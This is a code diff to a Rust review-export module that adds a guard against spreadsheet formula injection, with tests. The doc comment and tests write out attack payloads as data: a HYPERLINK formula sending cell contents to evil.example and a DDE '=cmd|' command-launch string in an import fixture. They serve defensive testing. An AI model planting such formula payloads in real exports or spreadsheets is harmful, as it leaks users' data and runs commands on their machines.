@@ -1,6 +1,12 @@
 //! Export: reviews as CSV with the import's columns first (so an export imports again unchanged),
 //! then what only Earshot knows: business, kind, sentiment, replied. Streams page by page, so a
 //! million reviews never sit in memory at once.
+//!
+//! Review text is written by strangers, and a spreadsheet runs a cell that begins with `=`, `+`,
+//! `-` or `@` as a formula (`=HYPERLINK("http://…?leak="&B3, "…")` sends the neighbouring cells to
+//! whoever wrote it). Such cells are written with a leading `'`, which spreadsheets read as "this
+//! is text"; a cell that already begins with `'` gets one more, so the import of an Earshot export
+//! strips exactly one and the round trip stays exact (see [`unguard_cell`]).
 
 use std::io::Write;
 
@@ -39,7 +45,7 @@ pub fn reviews_csv<W: Write>(
 ) -> Result<u64, ExportError> {
     let mut w = csv::Writer::from_writer(out);
     let mut header: Vec<&str> = COLUMNS.to_vec();
-    header.extend(["business", "kind", "sentiment", "replied_at", "removed"]);
+    header.extend(EXPORT_ONLY_COLUMNS);
     w.write_record(&header)?;
     let mut written = 0u64;
     let mut offset = 0u32;
@@ -58,21 +64,26 @@ pub fn reviews_csv<W: Write>(
                 .ok()
                 .and_then(|v| v.as_str().map(str::to_owned))
                 .unwrap_or_default();
-            w.write_record([
+            let created = rfc3339(&r.created_at);
+            let record = [
                 r.external_id.as_str(),
                 r.platform.as_str(),
                 r.author.as_deref().unwrap_or(""),
                 rating.as_str(),
                 r.title.as_deref().unwrap_or(""),
                 r.body.as_str(),
-                rfc3339(&r.created_at).as_str(),
+                created.as_str(),
                 r.url.as_deref().unwrap_or(""),
                 r.business.as_str(),
                 kind.as_str(),
                 sentiment.as_str(),
                 replied.as_str(),
                 if r.removed { "yes" } else { "" },
-            ])?;
+            ];
+            for cell in record {
+                w.write_field(guard_cell(cell).as_bytes())?;
+            }
+            w.write_record(None::<&[u8]>)?;
             written += 1;
         }
         if (page.len() as u32) < PAGE {
@@ -84,9 +95,67 @@ pub fn reviews_csv<W: Write>(
     Ok(written)
 }
 
+/// The columns only an Earshot export has; the import strips the formula guard only from a file
+/// whose header carries them, since another tool's CSV never added one.
+pub const EXPORT_ONLY_COLUMNS: [&str; 5] =
+    ["business", "kind", "sentiment", "replied_at", "removed"];
+
+/// Characters that make a spreadsheet read a cell as a formula (OWASP's list: tab and carriage
+/// return start one in some spreadsheets too), and the guard itself, so that it round-trips.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// The cell as a spreadsheet will show it as text: a leading `'` before anything a spreadsheet
+/// would run. A plain number (a negative sentiment such as `-0.710`) is not a formula and stays a
+/// number.
+pub fn guard_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(FORMULA_STARTS) && cell.trim().parse::<f64>().is_err();
+    if risky {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The cell as it was before [`guard_cell`]: one leading `'` removed where the guard put one.
+pub fn unguard_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => cell,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formula_cells_are_written_as_text_and_read_back_exactly() {
+        let attack = "=HYPERLINK(\"http://evil.example/?leak=\"&B3, \"Click\")";
+        for cell in [
+            attack,
+            "+1 call me",
+            "-rude",
+            "@SUM(A1)",
+            "\tx",
+            "'quoted",
+            "''=x",
+        ] {
+            let guarded = guard_cell(cell);
+            assert!(guarded.starts_with('\''), "{cell:?} -> {guarded:?}");
+            assert_eq!(unguard_cell(&guarded), cell);
+        }
+        for cell in [
+            "Lovely coffee",
+            "-0.710",
+            "4",
+            "",
+            "a=b",
+            "2026-01-03T10:00:00Z",
+        ] {
+            assert_eq!(guard_cell(cell), cell, "left as it is");
+            assert_eq!(unguard_cell(cell), cell);
+        }
+    }
     use crate::import::{import_path, ImportOptions};
 
     #[test]
@@ -178,7 +247,7 @@ mod tests {
             "external_id,platform,author,rating,title,body,created_at,url\n\
              a-1,google,\"O'Brien, Ann\",2,\"Slow, \"\"busy\"\"\",\"Line one\nline two, with a comma\",\
              2026-01-03T10:00:00Z,https://example.com/r/1\n\
-             a-2,reddit,u/kaffe,,,Anyone tried the café by the harbour? ☕,2026-01-05T08:30:00Z,\n",
+             a-2,reddit,\"=cmd|' /C calc'!A0\",,,Anyone tried the café by the harbour? ☕,2026-01-05T08:30:00Z,\n",
         )
         .unwrap();
         let opts = ImportOptions {
@@ -196,12 +265,16 @@ mod tests {
         )
         .unwrap();
         assert_eq!(n, 2);
+        // The formula-like author is written as text for a spreadsheet.
+        let exported = std::fs::read_to_string(&out).unwrap();
+        assert!(exported.contains(",'=cmd|"), "{exported}");
         let mut second = Store::open(&dir.path().join("b.db")).unwrap();
         import_path(&mut second, &out, &opts, &mut |_, _| {}).unwrap();
         let id = |s: &Store| s.businesses().unwrap()[0].id;
         let rows = fields(&second, id(&second));
         assert_eq!(fields(&first, id(&first)), rows);
         assert_eq!(rows[0].6, "Line one\nline two, with a comma");
+        assert_eq!(rows[1].3.as_deref(), Some("=cmd|' /C calc'!A0"), "{rows:?}");
         assert_eq!(rows[0].5.as_deref(), Some("Slow, \"busy\""));
     }
 }
